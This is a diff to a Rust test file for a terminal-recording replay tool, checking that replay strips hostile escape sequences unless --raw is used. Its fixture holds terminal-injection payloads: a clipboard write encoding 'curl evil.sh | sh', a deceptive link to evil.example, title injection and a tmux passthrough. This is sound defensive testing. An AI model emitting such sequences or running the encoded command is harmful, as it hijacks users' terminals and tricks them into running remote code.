@@ -103,8 +103,13 @@ fn a_runs_recording_plays_at_a_terminal_and_its_plain_stream_into_a_pipe() {
     assert_eq!(code, Some(0), "{screen}");
     assert!(screen.contains("in-the-2nd"), "{screen}");
 
-    // Into a pipe: the output events, byte for byte, at once.
+    // Into a pipe: its plain text, at once; with --raw, the output events byte for byte.
     let piped = flowdeck(dir.path(), &["replay", run_id]);
+    assert!(piped.status.success());
+    let plain = String::from_utf8(piped.stdout).unwrap();
+    assert!(plain.contains("\nin-the-1st\n"), "{plain:?}");
+    assert!(!plain.contains('\x1b'), "{plain:?}");
+    let piped = flowdeck(dir.path(), &["replay", run_id, "--raw"]);
     assert!(piped.status.success());
     let cast = std::fs::read_to_string(recordings[0].as_str().unwrap()).unwrap();
     let stream: String = cast
@@ -115,6 +120,87 @@ fn a_runs_recording_plays_at_a_terminal_and_its_plain_stream_into_a_pipe() {
         .map(|(_, _, text)| text)
         .collect();
     assert_eq!(String::from_utf8(piped.stdout).unwrap(), stream);
+}
+
+/// A recording of output that goes for the replaying terminal: a clipboard set to a command
+/// (OSC 52), a window title (OSC 0), a link whose text hides its target (OSC 8), the same
+/// clipboard through tmux's passthrough, and a question whose answer would be typed input.
+fn hostile(dir: &Path) -> String {
+    let path = dir.join("hostile.cast");
+    let events = [
+        "banner \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
+        "\x1b]0;pwned-title\x07\x1b]2;pwned-title\x1b\\",
+        "\x1b]8;;https://evil.example/\x1b\\click-here\x1b]8;;\x1b\\ ",
+        "\x1bPtmux;\x1b\x1b]52;c;ZXZpbA==\x07\x1b\\\x1b[21t",
+        "\x1b[1mend-of-banner\x1b[0m\r\n",
+    ];
+    let mut cast = String::from("{\"version\": 2, \"width\": 80, \"height\": 24}\n");
+    for (i, text) in events.iter().enumerate() {
+        let line = serde_json::json!([0.01 * (i + 1) as f64, "o", text]);
+        cast.push_str(&format!("{line}\n"));
+    }
+    std::fs::write(&path, cast).unwrap();
+    path.display().to_string()
+}
+
+/// Replays `cast` (with `more` arguments) in a window of `tmux`, which then waits for input
+/// so that the window and what it shows stay; the replay's exit status, once it has ended.
+fn replayed_in_tmux(tmux: &common::tmux::Tmux, window: &str, cast: &str, more: &str) -> String {
+    let done = format!("{cast}.{window}.done");
+    let command = format!(
+        "{} replay {cast} {more}; echo $? > {done}; exec cat",
+        env!("CARGO_BIN_EXE_flowdeck")
+    );
+    tmux.tmux(&["new-window", "-d", "-t", "t", "-n", window, &command]);
+    common::wait_until(common::LONG, "the replay in tmux to end", || {
+        std::fs::read_to_string(&done)
+            .ok()
+            .filter(|s| s.ends_with('\n'))
+    })
+}
+
+#[test]
+fn a_replay_cannot_set_the_clipboard_or_title_of_the_persons_tmux_unless_raw() {
+    let Some(tmux) = common::tmux::Tmux::start() else {
+        panic!("tmux is needed (.ci/run installs it)");
+    };
+    // tmux takes clipboard sequences from its panes into its paste buffers.
+    tmux.tmux(&["set", "-g", "set-clipboard", "on"]);
+    let dir = tempfile::tempdir().unwrap();
+    let cast = hostile(dir.path());
+    let title = |window: &str| {
+        tmux.tmux(&[
+            "display",
+            "-p",
+            "-t",
+            &format!("t:{window}"),
+            "#{pane_title}",
+        ])
+    };
+
+    assert_eq!(replayed_in_tmux(&tmux, "safe", &cast, ""), "0\n");
+    // tmux reads the pane's output on its own time: once the last line is shown, what came
+    // before it was taken too.
+    common::wait_until(common::LONG, "the replay's text in its tmux pane", || {
+        let shown = tmux.tmux(&["capture-pane", "-p", "-t", "t:safe"]);
+        shown
+            .contains("banner click-here end-of-banner")
+            .then_some(())
+    });
+    assert_eq!(tmux.tmux(&["list-buffers"]), "", "the clipboard was set");
+    assert!(!title("safe").contains("pwned"), "{}", title("safe"));
+
+    // The same with --raw: the sequences reach tmux (so the test above can see them).
+    assert_eq!(replayed_in_tmux(&tmux, "raw", &cast, "--raw"), "0\n");
+    common::wait_until(common::LONG, "tmux's buffer from --raw", || {
+        tmux.tmux(&["show-buffer"])
+            .contains("curl evil.sh")
+            .then_some(())
+    });
+    // The title it set is taken back at the end (tmux keeps a title stack, as xterm does).
+    common::wait_until(common::LONG, "the title taken back after --raw", || {
+        (!title("raw").contains("pwned")).then_some(())
+    });
 }
 
 #[test]
